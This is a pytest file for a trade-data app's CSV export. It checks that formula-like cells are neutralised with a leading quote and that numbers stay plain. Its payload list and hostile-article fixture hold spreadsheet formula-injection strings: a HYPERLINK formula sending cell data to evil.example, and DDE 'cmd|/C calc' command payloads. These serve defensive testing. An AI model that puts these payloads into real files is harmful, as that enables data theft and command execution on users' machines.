"""The facts CSV as a spreadsheet reads it: encoding, header, numbers, flags and no formulas."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest

from app.analysis.spreadsheet import cell, neutralise, to_text
from app.cli import main
from tests.conftest import SEEDS

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?"&A2, "Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_formula_like_cells_are_neutralised(payload: str) -> None:
    assert neutralise(payload) == "'" + payload
    text = to_text(["sentence"], [{"sentence": payload}])
    row = next(iter(csv.DictReader(io.StringIO(text.lstrip("\ufeff")))))
    assert row["sentence"] == "'" + payload


def test_numbers_stay_numbers() -> None:
    assert neutralise("-3.5") == "-3.5"
    assert cell("year", 2019.0) == "2019"
    assert cell("value_usd", 6.275e9) == "6275000000"
    assert cell("percent", -12.5) == "-12.5"
    assert cell("flags", ["implausible: x", "inconsistent: y"]) == "implausible: x; inconsistent: y"
    assert cell("derived_from", []) == ""
    assert cell("derived", False) == "false"


def test_facts_csv_opens_as_a_spreadsheet_would(tmp_path: Path, capsysbinary: pytest.CaptureFixture[bytes]) -> None:
    db = f"sqlite:///{tmp_path / 'cli.sqlite'}"
    main(["ingest", "--db", db, str(SEEDS)])
    capsysbinary.readouterr()
    assert main(["facts", "--db", db, "--pair", "VNM-MEX", "--kind", "trade_total", "--format", "csv"]) == 0
    raw = capsysbinary.readouterr().out
    assert raw.startswith("\ufeff".encode()) and b"\r\n" in raw  # Excel needs the BOM to read UTF-8
    rows = list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"), newline="")))
    by_year = {(r["year"], r["derived"]): r for r in rows}
    assert by_year[("2019", "false")]["value_usd"] == "6275000000"
    assert by_year[("1993", "false")]["flags"].startswith("implausible: 1,400× below the trend")
    assert by_year[("2024", "false")]["source"] == "Viet Nam News, 2025-05-20"  # not a hashed file name
    assert "article_title" not in rows[0]


def _hostile_article(folder: Path) -> None:
    """An article whose file name, headline and fact sentence all begin with formulas."""
    folder.mkdir()
    name = '=HYPERLINK("http:||evil.example|?"&A2, "Click").txt'
    (folder / name).write_text(
        "+cmd|' /C calc'!A0 Chile Peru trade\n\n"
        "@SUM(1+1)*cmd|' /C calc'!A0 Trade between Chile and Peru reached US$1.5 billion in 2020.\n",
        encoding="utf-8",
    )


def _no_formulas(rows: list[dict[str, str]]) -> None:
    for row in rows:
        for value in row.values():
            if value.startswith(("=", "+", "-", "@", "\t", "\r")):
                float(value)  # only a plain number may start so (a negative figure); this raises otherwise


def test_the_facts_csv_of_a_hostile_article_carries_no_formula(
    tmp_path: Path, capsysbinary: pytest.CaptureFixture[bytes]
) -> None:
    _hostile_article(tmp_path / "in")
    db = f"sqlite:///{tmp_path / 'cli.sqlite'}"
    assert main(["ingest", "--db", db, str(tmp_path / "in")]) == 0
    capsysbinary.readouterr()
    assert main(["facts", "--db", db, "--format", "csv"]) == 0
    rows = list(csv.DictReader(io.StringIO(capsysbinary.readouterr().out.decode("utf-8-sig"), newline="")))
    assert [r["value_usd"] for r in rows] == ["1500000000"]
    assert rows[0]["sentence"].startswith("'@SUM(1+1)*cmd|")
    assert any(v.startswith("'=HYPERLINK(") or v.startswith("'+cmd|") for v in rows[0].values())
    _no_formulas(rows)
